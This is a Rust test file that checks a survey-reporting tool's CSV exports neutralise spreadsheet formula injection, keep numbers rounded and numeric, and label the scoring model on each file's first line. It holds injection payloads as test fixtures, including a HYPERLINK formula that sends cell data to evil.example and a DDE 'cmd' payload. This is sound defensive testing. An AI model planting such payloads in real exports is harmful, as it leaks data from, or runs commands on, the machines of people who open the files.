//! The CSV exports of a real report build, with hostile organisation names, campaign name
//! and free-text answers: no cell a spreadsheet would run, numbers still numbers, rounded
//! to what the data supports, and a first line naming what scored the responses.

use std::path::{Path, PathBuf};

use liaison::audit::Actor;
use liaison::participants::OrganisationKind;
use liaison::questionnaire::{Answer, Answers, Kind, Question};
use liaison::reports::{ReportOptions, build_campaign_reports};

use crate::fixtures::{self, CampaignBuilder, ParticipantBuilder, ResponseBuilder};
use crate::test_db::TestDb;

/// Organisation names and free-text answers a spreadsheet would run as formulas.
const HOSTILE: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "-1+2",
    "+SUM(1,2)",
    "@SUM(A1:A2)",
    "\t=cmd|' /C calc'!A0",
];

/// A campaign name that would split an unescaped first line into cells.
const CAMPAIGN: &str = "Exports, =1+2 \"2026\"";

/// Three teams (enough to show aggregates) of one audience in AT, with hostile names,
/// answering `questionnaire`; every CSV of the campaign's real report build.
fn exports(db: &TestDb, questionnaire: &str, audience: OrganisationKind) -> Exports {
    let mut conn = db.conn();
    let q = fixtures::questionnaire(questionnaire);
    let teams = HOSTILE[..3].iter().enumerate().map(|(i, name)| {
        let comment = HOSTILE[(i + 3) % HOSTILE.len()];
        let answers: Answers = q
            .questions()
            .filter_map(|question| Some((question.id().to_owned(), answer(question, i, comment)?)))
            .collect();
        ParticipantBuilder::new(&format!("team{i}@example.org"))
            .organisation(name)
            .audience(audience)
            .response(ResponseBuilder::submitted(answers))
    });
    let built = CampaignBuilder::new(CAMPAIGN)
        .questionnaire(questionnaire)
        .participants(teams)
        .build(&mut conn);
    let out = tempfile::tempdir().expect("a folder");
    let options = ReportOptions {
        radars: false,
        ..ReportOptions::new(3)
    };
    build_campaign_reports(
        &mut conn,
        fixtures::catalogue(),
        &built.details,
        options,
        out.path(),
        &|_| {},
        &Actor::Cli,
    )
    .expect("reports built");
    let dir = out.path().join(built.id().to_string());
    Exports { _out: out, dir }
}

struct Exports {
    _out: tempfile::TempDir,
    dir: PathBuf,
}

impl Exports {
    fn read(&self, name: &str) -> (String, Vec<Vec<String>>) {
        read(&self.dir.join(name))
    }
}

/// Team `i`'s answer: levels that make means of thirds, the hostile `comment` as free text,
/// numbers entered as -0 and -1.5, and where options are summed the one worth nothing (an
/// empty selection, which once stood here, leaves a required question unanswered and the
/// response refused on submit).
fn answer(question: &Question, i: usize, comment: &str) -> Option<Answer> {
    let level = [1, 2, 2][i];
    Some(match question.kind() {
        Kind::Country => Answer::Choice("AT".to_owned()),
        Kind::Text { .. } => Answer::Text(comment.to_owned()),
        Kind::Number { .. } => Answer::Number([-0.0, -1.5, 7.0][i]),
        Kind::Level { options } | Kind::Single { options } => {
            let choice = options.iter().find(|o| o.level() == Some(f64::from(level)));
            Answer::Choice(choice.or(options.first())?.value().to_owned())
        }
        Kind::Multi { options, .. } => {
            let nothing = options.iter().find(|o| o.level() == Some(0.0))?;
            Answer::Choices(vec![nothing.value().to_owned()])
        }
        Kind::Scale { min, max, .. } => Answer::Number((min + (max - min) * i as i64 / 3) as f64),
        Kind::Matrix(matrix) => crate::fixtures::every_cell(matrix, i),
    })
}

/// The first line and the records (header first) of a written CSV.
fn read(path: &Path) -> (String, Vec<Vec<String>>) {
    let text = std::fs::read_to_string(path).expect("csv written");
    let (first, rest) = text.split_once('\n').expect("more than one line");
    let records = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(rest.as_bytes())
        .into_records()
        .map(|r| r.expect("a record").iter().map(String::from).collect())
        .collect();
    (first.to_owned(), records)
}

/// Every cell a spreadsheet would run as a formula is a number; the first line is one
/// cell beginning with "#".
fn assert_nothing_runs(name: &str, (first, records): &(String, Vec<Vec<String>>)) {
    let line = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(first.as_bytes())
        .into_records()
        .next()
        .expect("a first line")
        .expect("valid CSV");
    assert_eq!(line.len(), 1, "{name}: {first}");
    assert!(
        line[0].starts_with("# TLP:AMBER — Exports"),
        "{name}: {first}"
    );
    for cell in records.iter().flatten() {
        let formula = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
        assert!(
            !formula || cell.parse::<f64>().is_ok(),
            "{name}: {cell:?} would run as a formula"
        );
    }
}

/// Every number has at most two decimals (three for completeness) and none is "-0".
fn assert_rounded(name: &str, records: &[Vec<String>]) {
    for row in &records[1..] {
        for (header, cell) in records[0].iter().zip(row) {
            if cell.parse::<f64>().is_err() {
                continue;
            }
            assert_ne!(cell, "-0", "{name}: {header}");
            let places = if header == "completeness" { 3 } else { 2 };
            let decimals = cell.split_once('.').map_or(0, |(_, d)| d.len());
            assert!(
                decimals <= places,
                "{name}: {header} {cell} has {decimals} decimals"
            );
        }
    }
}

fn column<'a>(records: &'a [Vec<String>], name: &str) -> Vec<&'a str> {
    let at = records[0]
        .iter()
        .position(|c| c == name)
        .unwrap_or_else(|| panic!("no column {name} in {:?}", records[0]));
    records[1..].iter().map(|r| r[at].as_str()).collect()
}

#[test]
fn hostile_names_and_answers_come_out_neutralised_in_every_export() {
    for db in TestDb::all() {
        let exports = exports(&db, "csirt-le-cooperation-csirt", OrganisationKind::Csirt);
        for name in [
            "answers.csv",
            "scores.csv",
            "aggregates.csv",
            "non_answers.csv",
        ] {
            assert_nothing_runs(&format!("{db}: {name}"), &exports.read(name));
        }
        let (_, answers) = exports.read("answers.csv");
        let mut organisations = column(&answers, "organisation");
        organisations.dedup();
        let expected: Vec<String> = HOSTILE[..3].iter().map(|h| format!("'{h}")).collect();
        assert_eq!(organisations, expected, "{db}");
        let (_, scores) = exports.read("scores.csv");
        assert_eq!(column(&scores, "organisation"), expected, "{db}");
        let comments: Vec<&str> = answers[1..]
            .iter()
            .filter(|r| r[4] == "context-comment")
            .map(|r| r[5].as_str())
            .collect();
        assert_eq!(
            comments,
            [
                "'@SUM(A1:A2)",
                "'\t=cmd|' /C calc'!A0",
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
            ],
            "{db}"
        );
    }
}

#[test]
fn numbers_entered_stay_numeric_and_levels_are_rounded_without_negative_zero() {
    for db in TestDb::all() {
        let exports = exports(&db, "csirt-le-cooperation-csirt", OrganisationKind::Csirt);
        let (_, answers) = exports.read("answers.csv");
        assert_rounded(&format!("{db}: answers.csv"), &answers);
        let years: Vec<&str> = answers[1..]
            .iter()
            .filter(|r| r[4] == "cooperation-years")
            .map(|r| r[5].as_str())
            .collect();
        assert_eq!(years, ["0", "-1.5", "7"], "{db}: numbers as entered");
        let (_, scores) = exports.read("scores.csv");
        assert_rounded(&format!("{db}: scores.csv"), &scores);
        let (_, aggregates) = exports.read("aggregates.csv");
        assert_rounded(&format!("{db}: aggregates.csv"), &aggregates);
        assert!(
            column(&aggregates, "mean").iter().any(|m| m.contains('.')),
            "{db}: some mean is fractional, so rounding was tested"
        );
    }
}

#[test]
fn a_cooperation_report_says_its_model_is_liaisons_own_and_has_no_tier_columns() {
    for db in TestDb::all() {
        let exports = exports(&db, "csirt-le-cooperation-csirt", OrganisationKind::Csirt);
        for name in [
            "answers.csv",
            "scores.csv",
            "aggregates.csv",
            "non_answers.csv",
        ] {
            let (first, _) = exports.read(name);
            assert!(
                first.contains(
                    "csirt-le-cooperation-csirt 1.4.0 scored with model: Liaison's own cooperation model built on ENISA's"
                ),
                "{db}: {name}: {first}"
            );
        }
        let (_, aggregates) = exports.read("aggregates.csv");
        assert!(
            !aggregates[0].iter().any(|c| c.starts_with("tier")),
            "{db}: {:?}",
            aggregates[0]
        );
        let (_, scores) = exports.read("scores.csv");
        assert!(!scores[0].iter().any(|c| c.starts_with("tier")), "{db}");
    }
}

#[test]
fn a_maturity_report_names_its_tier_table_in_every_export_and_beside_every_tier() {
    for db in TestDb::all() {
        let exports = exports(&db, "csirt-maturity", OrganisationKind::Csirt);
        for name in [
            "answers.csv",
            "scores.csv",
            "aggregates.csv",
            "non_answers.csv",
        ] {
            let exported = exports.read(name);
            assert_nothing_runs(&format!("{db}: {name}"), &exported);
            assert!(
                exported
                    .0
                    .ends_with("csirt-maturity 1.1.0 scored with tier table baseline version 1 (source: project baseline)"),
                "{db}: {name}: {}",
                exported.0
            );
        }
        let (_, scores) = exports.read("scores.csv");
        assert_eq!(column(&scores, "tier_table"), ["baseline"; 3], "{db}");
        assert_rounded(&format!("{db}: scores.csv"), &scores);
        let (_, aggregates) = exports.read("aggregates.csv");
        assert_eq!(aggregates[0].len(), 14, "{db}: tier counts kept");
        assert_rounded(&format!("{db}: aggregates.csv"), &aggregates);
        assert!(
            column(&aggregates, "mean").contains(&"1.67"),
            "{db}: (1+2+2)/3"
        );
    }
}
